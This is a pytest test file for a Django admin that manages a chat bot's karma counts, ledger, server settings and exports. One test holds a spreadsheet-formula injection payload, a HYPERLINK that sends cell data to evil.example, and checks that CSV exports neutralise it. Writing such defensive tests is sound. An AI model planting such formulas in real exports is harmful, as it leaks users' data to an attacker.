"""The admin through Django's test client: login, search, filter, sort, edits that reach the ledger."""

import csv
import io
import json

import pytest
from django.urls import reverse

from karma.ledger import reads, writes
from karma.models import GuildSettings, Karma, LedgerEntry, SettingChange
from testkit.messages import chat

pytestmark = pytest.mark.django_db


@pytest.fixture
def karma_rows():
    writes.apply_changes(chat("", guild_id=1), [("popple", 3), ("coffee", -2), ("tea", 1)])
    writes.apply_changes(chat("", guild_id=2), [("popple", 7)])


def test_admin_requires_login(client):
    response = client.get(reverse("admin:karma_karma_changelist"))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("admin:login"))


def test_karma_list_search_filter_and_sort(admin_client, karma_rows):
    url = reverse("admin:karma_karma_changelist")
    listed = lambda response: [str(row) for row in response.context["cl"].result_list]  # noqa: E731
    assert listed(admin_client.get(url, {"q": "popp"})) == ["popple has 7 karma", "popple has 3 karma"]
    assert listed(admin_client.get(url, {"guild_id": "1"})) == [
        "popple has 3 karma",
        "tea has 1 karma",
        "coffee has -2 karma",
    ]
    # Column 2 is karma; ascending.
    assert listed(admin_client.get(url, {"guild_id": "1", "o": "2"}))[0] == "coffee has -2 karma"


def test_editing_karma_writes_an_admin_ledger_row(admin_client, admin_user, karma_rows):
    row = Karma.objects.get(guild_id=1, subject="popple")
    response = admin_client.post(reverse("admin:karma_karma_change", args=[row.pk]), {"karma": "10"})
    assert response.status_code == 302
    assert Karma.objects.get(pk=row.pk).karma == 10
    entry = LedgerEntry.objects.get(source="admin")
    assert (entry.guild_id, entry.subject, entry.delta, entry.total, entry.admin_user) == (
        1,
        "popple",
        7,
        10,
        admin_user,
    )


def test_subject_and_server_cannot_be_changed(admin_client, karma_rows):
    row = Karma.objects.get(guild_id=1, subject="popple")
    admin_client.post(reverse("admin:karma_karma_change", args=[row.pk]), {"karma": "3", "subject": "x", "guild_id": 9})
    row.refresh_from_db()
    assert (row.guild_id, row.subject) == (1, "popple")


def test_adding_and_deleting_karma_is_recorded(admin_client, admin_user):
    response = admin_client.post(reverse("admin:karma_karma_add"), {"guild_id": "5", "subject": "new", "karma": "4"})
    assert response.status_code == 302
    row = Karma.objects.get(guild_id=5, subject="new")
    admin_client.post(reverse("admin:karma_karma_delete", args=[row.pk]), {"post": "yes"})
    assert not Karma.objects.filter(pk=row.pk).exists()
    assert list(LedgerEntry.objects.order_by("id").values_list("subject", "delta", "total", "source")) == [
        ("new", 4, 4, "admin"),
        ("new", -4, 0, "admin"),
    ]


def test_names_typed_in_the_admin_are_cleaned_as_chat_cleans_them(admin_client, karma_rows):
    # A name is one line (karma/names.py): a line break in the admin cannot make a subject whose
    # public page breaks.
    add = reverse("admin:karma_karma_add")
    assert admin_client.post(add, {"guild_id": "5", "subject": "new\r\nline", "karma": "4"}).status_code == 302
    assert Karma.objects.get(guild_id=5).subject == "new line"
    refused = admin_client.post(add, {"guild_id": "5", "subject": "\u200b\n", "karma": "4"})
    assert "not a name karma could count" in refused.content.decode()
    tea = Karma.objects.get(guild_id=1, subject="tea").pk
    karma = reverse("admin:karma_karma_changelist")
    admin_client.post(karma, {"action": "merge", "_selected_action": [tea], "apply": "Merge", "target": "hot\ntea"})
    assert Karma.objects.get(pk=tea).merged_into == "hot tea"
    assert Karma.objects.filter(guild_id=1, subject="hot tea", karma=1).exists()


def test_ledger_is_read_only_and_filterable(admin_client, karma_rows):
    entry = LedgerEntry.objects.first()
    assert admin_client.get(reverse("admin:karma_ledgerentry_add")).status_code == 403
    response = admin_client.post(reverse("admin:karma_ledgerentry_change", args=[entry.pk]), {"delta": "100"})
    assert response.status_code == 403
    entry.refresh_from_db()
    assert entry.delta != 100
    response = admin_client.get(reverse("admin:karma_ledgerentry_changelist"), {"guild_id": "2"})
    assert [e.subject for e in response.context["cl"].result_list] == ["popple"]


def test_server_settings_are_editable_and_each_change_is_recorded(admin_client, admin_user):
    GuildSettings.objects.create(guild_id=3, announce=True)
    form = {
        "guild_id": "3",
        "announce": "",
        "cooldown": "60",
        "budget": "0",
        "max_change": "0",
        "points": "karma",
        "log_refusals": "10",
        "language": "fr",
        "ignored": '["c"]',
    }
    response = admin_client.post(reverse("admin:karma_guildsettings_change", args=[3]), form)
    assert response.status_code == 302
    assert reads.announce_enabled(3) is False
    changes = SettingChange.objects.order_by("setting").values_list("setting", "old", "new", "changed_by", "admin_user")
    assert list(changes) == [
        ("announce", "on", "off", "admin admin", admin_user.pk),
        ("cooldown", "off", "60 s", "admin admin", admin_user.pk),
        ("ignore", "(none)", "c", "admin admin", admin_user.pk),
        ("language", "auto", "fr", "admin admin", admin_user.pk),
    ]
    listed = admin_client.get(reverse("admin:karma_settingchange_changelist"))
    assert b"60 s" in listed.content
    assert reads.language_of(3) == "fr"
    assert admin_client.get(reverse("admin:karma_settingchange_add")).status_code == 403


def test_a_bad_setting_is_refused_with_its_reason(admin_client):
    GuildSettings.objects.create(guild_id=4)
    form = {
        "guild_id": "4",
        "announce": "on",
        "cooldown": "-5",
        "budget": "0",
        "max_change": "0",
        "points": "karma",
        "log_refusals": "10",
        "ignored": "[]",
    }
    response = admin_client.post(reverse("admin:karma_guildsettings_change", args=[4]), form)
    assert response.status_code == 200  # the form again, with the error
    assert b"Ensure this value is greater than or equal to 0." in response.content
    assert GuildSettings.objects.get(guild_id=4).cooldown == 0


def test_ignored_names_must_be_names_and_a_server_stays_its_own(admin_client):
    GuildSettings.objects.create(guild_id=6)
    url = reverse("admin:karma_guildsettings_change", args=[6])
    form = {
        "announce": "on",
        "cooldown": "0",
        "budget": "0",
        "max_change": "0",
        "points": "karma",
        "log_refusals": "10",
        "ignored": "[1]",
    }
    response = admin_client.post(url, form)
    assert response.status_code == 200
    assert b"is not a name karma could count" in response.content
    response = admin_client.post(url, {**form, "ignored": '["c", "x\\u200b"]', "guild_id": "7"})
    assert response.status_code == 302
    assert GuildSettings.objects.get(guild_id=6).ignored == ["c", "x"]  # cleaned, as karma compares them
    assert not GuildSettings.objects.filter(guild_id=7).exists()


def test_reaction_emoji_must_be_emoji(admin_client, admin_user):
    GuildSettings.objects.create(guild_id=8)
    url = reverse("admin:karma_guildsettings_change", args=[8])
    form = {
        "announce": "on",
        "cooldown": "0",
        "budget": "0",
        "max_change": "0",
        "points": "karma",
        "log_refusals": "10",
        "ignored": "[]",
    }
    response = admin_client.post(url, {**form, "reactions": '["👍", "up"]'})
    assert response.status_code == 200
    assert b"is not an emoji (a server" in response.content
    assert admin_client.post(url, {**form, "reactions": '["👍", "<:upvote:123>"]'}).status_code == 302
    assert GuildSettings.objects.get(guild_id=8).reactions == ["👍", "<:upvote:123>"]
    change = SettingChange.objects.get(guild_id=8)
    assert (change.setting, change.old, change.new, change.admin_user_id) == (
        "reactions",
        "off",
        "👍 <:upvote:123>",
        admin_user.pk,
    )
    assert admin_client.post(url, {**form, "reactions": "[]"}).status_code == 302
    assert GuildSettings.objects.get(guild_id=8).reactions == []


def test_servers_are_shown_and_filtered_by_name(admin_client, karma_rows):
    GuildSettings.objects.create(guild_id=1, name="Café crew")
    writes.apply_changes(chat("", guild_id=1), [("popple", 1)])
    for model in ("karma", "ledgerentry"):
        url = reverse(f"admin:karma_{model}_changelist")
        page = admin_client.get(url).content.decode()
        assert "Café crew (1)" in page
        assert '<a href="?guild_id=1">Café crew (1)</a>' in page  # the filter, by name
        found = admin_client.get(url, {"q": "café"}).context["cl"].result_list
        assert {row.guild_id for row in found} == {1}
    assert admin_client.get(reverse("admin:karma_karma_changelist"), {"guild_id": "x"}).context["cl"].result_count == 0
    servers = admin_client.get(reverse("admin:karma_guildsettings_changelist"), {"q": "crew"})
    assert [server.guild_id for server in servers.context["cl"].result_list] == [1]


def test_revert_merge_and_export_from_the_admin(admin_client, admin_user, karma_rows):
    spam = chat("", guild_id=1, author_id=666)
    writes.apply_changes(spam, [("popple", 5), ("tea", 5)])
    ledger = reverse("admin:karma_ledgerentry_changelist")
    rows = LedgerEntry.objects.filter(author_id=666).values_list("pk", flat=True)
    response = admin_client.post(ledger, {"action": "revert", "_selected_action": list(rows)}, follow=True)
    assert "Reverted 2 changes" in response.content.decode()
    assert dict(Karma.objects.filter(guild_id=1).values_list("subject", "karma")) == {
        "popple": 3,
        "coffee": -2,
        "tea": 1,
    }
    assert set(LedgerEntry.objects.filter(source="revert").values_list("admin_user", flat=True)) == {admin_user.pk}

    karma = reverse("admin:karma_karma_changelist")
    tea = Karma.objects.get(guild_id=1, subject="tea").pk
    asked = admin_client.post(karma, {"action": "merge", "_selected_action": [tea]})
    assert "Merge into" in asked.content.decode()  # the form asks for the target first
    assert Karma.objects.get(pk=tea).merged_into is None
    merged = admin_client.post(
        karma, {"action": "merge", "_selected_action": [tea], "apply": "Merge", "target": "popple"}, follow=True
    )
    assert "Merged tea into popple (1 karma moved)." in merged.content.decode()
    assert Karma.objects.get(guild_id=1, subject="popple").karma == 4
    admin_client.post(karma, {"action": "remove_alias", "_selected_action": [tea]})
    assert Karma.objects.get(pk=tea).merged_into is None

    servers = reverse("admin:karma_guildsettings_changelist")
    GuildSettings.objects.create(guild_id=1, name="one")
    exported = admin_client.post(servers, {"action": "export_json", "_selected_action": [1]})
    assert exported["Content-Disposition"] == 'attachment; filename="popple-1-karma.json"'
    body = json.loads(b"".join(exported.streaming_content))
    assert body["server"] == {"id": 1, "name": "one"}
    assert {row["subject"]: row["karma"] for row in body["karma"]} == {"popple": 4, "coffee": -2, "tea": 0}
    exported = admin_client.post(servers, {"action": "export_ledger_csv", "_selected_action": [1]})
    lines = b"".join(exported.streaming_content).decode().splitlines()
    assert lines[0].startswith("id,created_at,subject,delta,total,source")
    assert len(lines) == 1 + LedgerEntry.objects.filter(guild_id=1).count()


def test_forgetting_authors_from_the_admin(admin_client, karma_rows):
    writes.apply_changes(chat("", guild_id=1, author_id=666), [("x", 1)])
    row = LedgerEntry.objects.get(author_id=666)
    admin_client.post(
        reverse("admin:karma_ledgerentry_changelist"), {"action": "forget_authors", "_selected_action": [row.pk]}
    )
    row.refresh_from_db()
    assert (row.author_id, row.author_name, row.delta) == (None, "", 1)


def test_only_those_who_may_change_karma_may_revert_or_forget(client, django_user_model, karma_rows):
    from django.contrib.auth.models import Permission

    viewer = django_user_model.objects.create_user("viewer", password="x", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_ledgerentry"))
    client.force_login(viewer)
    ledger = reverse("admin:karma_ledgerentry_changelist")
    page = client.get(ledger)
    assert page.status_code == 200
    assert page.context["action_form"] is None  # no action to offer them
    rows = list(LedgerEntry.objects.values_list("pk", flat=True))
    client.post(ledger, {"action": "revert", "_selected_action": rows})
    assert not LedgerEntry.objects.filter(source="revert").exists()


def test_csv_exports_cannot_hold_spreadsheet_formulas(admin_client):
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
    writes.apply_changes(chat("", guild_id=1, author_name="@SUM(A1:A9)"), [(formula, -2), ("+1", 1), ("-x", 1)])
    writes.apply_changes(chat("", guild_id=1, author_name="\tcmd"), [("plain", 1)])
    GuildSettings.objects.create(guild_id=1)
    servers = reverse("admin:karma_guildsettings_changelist")

    def cells(action):
        exported = admin_client.post(servers, {"action": action, "_selected_action": [1]})
        return list(csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode())))

    karma = {row["subject"]: row["karma"] for row in cells("export_karma_csv")}
    # A cell a spreadsheet would read as a formula starts with ' (shown, not run); numbers stay numbers.
    assert karma == {"'" + formula: "-2", "'+1": "1", "'-x": "1", "plain": "1"}
    ledger = cells("export_ledger_csv")
    assert {row["author_name"] for row in ledger} == {"'@SUM(A1:A9)", "'\tcmd"}
    assert [row["delta"] for row in ledger if row["subject"] == "'" + formula] == ["-2"]


def test_exports_need_the_view_permissions_of_what_they_export(client, django_user_model, karma_rows):
    from django.contrib.auth.models import Permission

    writes.apply_changes(chat("", guild_id=1, author_id=666, author_name="private-person"), [("x", 1)])
    GuildSettings.objects.create(guild_id=1)
    staff = django_user_model.objects.create_user("settings-viewer", password="x", is_staff=True)
    staff.user_permissions.add(Permission.objects.get(codename="view_guildsettings"))
    client.force_login(staff)
    servers = reverse("admin:karma_guildsettings_changelist")

    def exported(action):
        response = client.post(servers, {"action": action, "_selected_action": [1]})
        return b"".join(response.streaming_content).decode() if response.streaming else None

    def granted(codename):
        staff.user_permissions.add(Permission.objects.get(codename=codename))

    assert client.get(reverse("admin:karma_ledgerentry_changelist")).status_code == 403
    actions = ("export_karma_csv", "export_ledger_csv", "export_json")
    assert [exported(action) for action in actions] == [None, None, None]
    granted("view_karma")
    assert "popple" in exported("export_karma_csv")
    assert [exported("export_ledger_csv"), exported("export_json")] == [None, None]
    granted("view_ledgerentry")
    assert "private-person" in exported("export_ledger_csv")
    assert "private-person" in exported("export_json")


def test_a_moderator_redacts_a_reason_from_the_admin(admin_client, client, django_user_model, karma_rows):
    from django.contrib.auth.models import Permission

    writes.apply_changes(chat("", guild_id=1), [("tea", 1)], {"tea": "my phone number is 555-0100"})
    row = LedgerEntry.objects.get(reason__startswith="my phone")
    ledger = reverse("admin:karma_ledgerentry_changelist")
    viewer = django_user_model.objects.create_user("viewer", password="x", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_ledgerentry"))
    client.force_login(viewer)
    client.post(ledger, {"action": "redact_reasons", "_selected_action": [row.pk]})
    assert LedgerEntry.objects.get(pk=row.pk).reason.startswith("my phone")  # viewing is not moderating
    response = admin_client.post(ledger, {"action": "redact_reasons", "_selected_action": [row.pk]}, follow=True)
    assert "Redacted the reasons of 1 ledger rows" in response.content.decode()
    assert LedgerEntry.objects.get(pk=row.pk).reason == ""


def test_the_server_filter_does_not_scan_karma_on_every_page(admin_client, karma_rows):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    url = reverse("admin:karma_ledgerentry_changelist")
    admin_client.get(url)
    with CaptureQueriesContext(connection) as queries:
        page = admin_client.get(url, {"guild_id": "1"}).content.decode()
    assert '<a href="?guild_id=2">2</a>' in page  # listed, from the cache
    assert not [sql for sql in (query["sql"] for query in queries) if "DISTINCT" in sql and "karma_karma" in sql]
